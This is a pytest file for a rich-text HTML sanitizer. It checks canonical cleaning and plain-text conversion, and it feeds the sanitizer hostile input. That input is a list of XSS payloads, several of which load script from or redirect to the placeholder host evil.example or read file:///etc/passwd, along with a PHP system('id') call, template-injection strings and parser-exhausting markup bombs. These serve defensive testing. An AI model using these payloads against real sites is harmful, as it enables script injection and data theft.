"""Whatever comes in, the canonical subset comes out."""

import html as html_entities
import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from csipa.richtext import clean, faults, from_text, refusals, to_text
from csipa.richtext.tokens import ALLOWED

CASES = [
    pytest.param("", "", id="nothing"),
    pytest.param("Un seul alinéa.", "<p>Un seul alinéa.</p>", id="no tag is one paragraph"),
    pytest.param("<p>a</p>b", "<p>a</p><p>b</p>", id="text outside a block"),
    pytest.param("a & b < c", "<p>a &amp; b &lt; c</p>", id="characters that HTML reserves"),
    pytest.param("<b>a</b> <i>b</i>", "<p><strong>a</strong> <em>b</em></p>", id="b and i"),
    pytest.param("<h2>Titre</h2>suite", "<p><strong>Titre</strong></p><p>suite</p>", id="heading"),
    pytest.param("<div>a</div><div>b</div>", "<p>a</p><p>b</p>", id="div"),
    pytest.param("1<sup>er</sup> avril", "<p>1er avril</p>", id="ordinal"),
    pytest.param("<p>\u00a0</p><p> </p><p>a</p>", "<p>a</p>", id="blank paragraphs"),
    pytest.param("<p>Vu\u00a0: 3&nbsp;%</p>", "<p>Vu\u00a0: 3\u00a0%</p>", id="no-break spaces"),
    pytest.param("<p> a \n  b <br> c <br></p>", "<p>a b<br>c</p>", id="white space"),
    pytest.param(
        "<p>a<strong> b </strong> c</p>", "<p>a<strong> b </strong>c</p>", id="two spaces"
    ),
    pytest.param("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>", id="open items"),
    pytest.param("<ul><li><p>a</p></li></ul>", "<ul><li>a</li></ul>", id="item of one paragraph"),
    pytest.param(
        "<ul><li><p>a</p><p>b</p></li></ul>",
        "<ul><li><p>a</p><p>b</p></li></ul>",
        id="item of two paragraphs",
    ),
    pytest.param(
        "<ol><li>a<ul><li>b</li></ul></li></ol>",
        "<ol><li>a<ul><li>b</li></ul></li></ol>",
        id="list in an item",
    ),
    pytest.param("<ul>a<li>b</li></ul>", "<ul><li>a</li><li>b</li></ul>", id="text in a list"),
    pytest.param("<ul><li></li></ul><p>a</p>", "<p>a</p>", id="list of nothing"),
    pytest.param("<li>a</li>", "<p>a</p>", id="item without a list"),
    pytest.param("<p>a<ul><li>b</li></ul>c</p>", "<p>a</p><ul><li>b</li></ul><p>c</p>", id="mixed"),
    pytest.param(
        "<table><tr><th>A</th><td>b</td></tr></table>",
        "<p><strong>A</strong></p><p>b</p>",
        id="table",
    ),
    pytest.param(
        '<b style="font-weight:normal"><span style="font-weight:700">a</span>b</b>',
        "<p><strong>a</strong>b</p>",
        id="Google Docs",
    ),
    pytest.param(
        "<p class=MsoNormal><b style='mso-bidi-font-weight:normal'>a</b><o:p></o:p></p>",
        "<p><strong>a</strong></p>",
        id="Word",
    ),
    pytest.param(
        "<strong><em>a</em></strong><em>b</em>",
        "<p><strong><em>a</em></strong><em>b</em></p>",
        id="emphasis one after the other",
    ),
]

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>document.write('<p>a</p>')</script >",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='file:///etc/passwd'>",
    '<IMG """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href='jav&#x09;ascript:alert(1)'>a</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>a</a>",
    "<a href='file:///etc/passwd' rel=attachment>a</a>",
    "<link rel=attachment href='file:///etc/passwd'>",
    "<iframe src='http://127.0.0.1/'></iframe>",
    "<object data='file:///etc/passwd'></object>",
    "<embed src='file:///etc/passwd'>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action='http://evil.example/'><input name=a><button>b</button></form>",
    "<p style='background:url(http://evil.example/)'>a</p>",
    "<p onclick=alert(1)>a</p>",
    "<p/onmouseover=alert(1)>a</p>",
    "<style>@import 'http://evil.example/';</style>",
    "<td colspan=1000000 rowspan=1000000>a</td>",
    "<!-- --!><script>alert(1)</script> -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?php system('id') ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;script&amp;gt;",
    "<textarea><script>alert(1)</script></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><script>",
    "<p>\u202eexe.fdp\u202c</p>",
    "\x00<\x00script>alert(1)</\x00script>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>a</details>",
    "<x-y contenteditable onblur=alert(1)>a</x-y>",
    "\ud800<p>a</p>",
]

BOMBS = [
    pytest.param("<div>" * 80_000, id="div in div"),
    pytest.param("<ul><li>" * 40_000 + "a", id="list in list"),
    pytest.param("<b><i>" * 40_000 + "a", id="open emphasis"),
    pytest.param("<strong>" * 40_000 + "</em>" * 40_000, id="closers of nothing"),
    pytest.param("<span>" * 25_000 + "x<br>" * 25_000, id="many open spans"),
    pytest.param('<a "' * 100_000, id="open quotes"),
    pytest.param("<!--" * 100_000, id="open comments"),
    pytest.param("<script" * 80_000, id="open tags"),
    pytest.param("<title>a</title x>" * 25_000, id="closers that do not close"),
    pytest.param("&#9999999;" * 40_000, id="references out of range"),
]

# Tags of the subset and others, broken or not, between pieces of text.
TAGS = (
    "<p> </p> <ul> </ul> <ol> </ol> <li> </li> <strong> </strong> <em> </em> <br> <b> </b> "
    "<h1> </h1> <div> </div> <table> <td> <script> </script> <!-- --> <a <p/ < > & &lt; &amp; "
    "&nbsp; &#0; <span/style='font-weight:bold'> </span> </"
)
PIECES = st.lists(
    st.sampled_from(TAGS.split()) | st.text(alphabet="ab \n\u00a0'\"&<>/é\x07", max_size=6),
    max_size=25,
).map("".join)


def tags(html):
    return set(re.findall(r"<[^>]*>", html))


ADMITTED = {f"<{mark}{name}>" for name in ALLOWED - {"br"} for mark in ("", "/")}


@pytest.mark.parametrize(("html", "expected"), CASES)
def test_a_body_takes_its_canonical_form(html, expected):
    assert clean(html) == expected


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_but_the_subset_comes_out_of_a_hostile_body(html):
    cleaned = clean(html)
    assert tags(cleaned) <= ADMITTED | {"<br>"}
    assert faults(cleaned) == []
    assert not re.search("[\x00-\x08\u202a-\u202e\ud800-\udfff]", cleaned)


@pytest.mark.parametrize("text", ["{{ user.password }}", "{% include 'x' %}", "${7*7}", "<%= 1 %>"])
def test_the_braces_of_a_template_stay_text(text):
    assert html_entities.unescape(to_text(clean(text))) == text


@pytest.mark.parametrize("html", BOMBS)
def test_a_bomb_is_cleaned_and_judged_in_seconds(html):
    start = time.process_time()
    assert tags(clean(html)) <= ADMITTED | {"<br>"}
    assert faults(html)
    assert isinstance(refusals(html), list)
    assert time.process_time() - start < 10


def test_lists_deeper_than_the_limit_keep_their_text():
    html = "".join(f"<ul><li>{level}" for level in range(30))
    cleaned = clean(html)
    assert faults(cleaned) == []
    assert re.findall(r"\d+", cleaned) == [str(level) for level in range(30)]


@given(PIECES)
@settings(max_examples=200, deadline=None)
def test_cleaning_twice_is_cleaning_once_and_leaves_no_fault(html):
    cleaned = clean(html)
    assert clean(cleaned) == cleaned
    assert faults(cleaned) == []


@given(st.text(alphabet="ab é\u00a0<>&;#\n–- ", max_size=60))
def test_plain_text_typed_in_comes_back_as_text(text):
    html = from_text(text)
    assert faults(html) == []
    wanted = re.sub(r"[\s–-]", "", text)
    assert re.sub(r"[\s–-]", "", to_text(html)) == wanted


def test_plain_text_gives_paragraphs_and_lists():
    text = "Le Président,\n\nDécide :\n– un\n- deux\nFin & suite"
    assert from_text(text) == (
        "<p>Le Président,</p><p>Décide :</p><ul><li>un</li><li>deux</li></ul><p>Fin &amp; suite</p>"
    )


def test_the_plain_text_of_a_body_shows_its_lists():
    html = "<p>a<br>b</p><ul><li>c<ol><li>d</li><li>e</li></ol></li></ul><p>1 &lt; 2</p>"
    assert to_text(html) == ("a\nb\n–\u00a0c\n  1.\u00a0d\n  2.\u00a0e\n1 < 2")
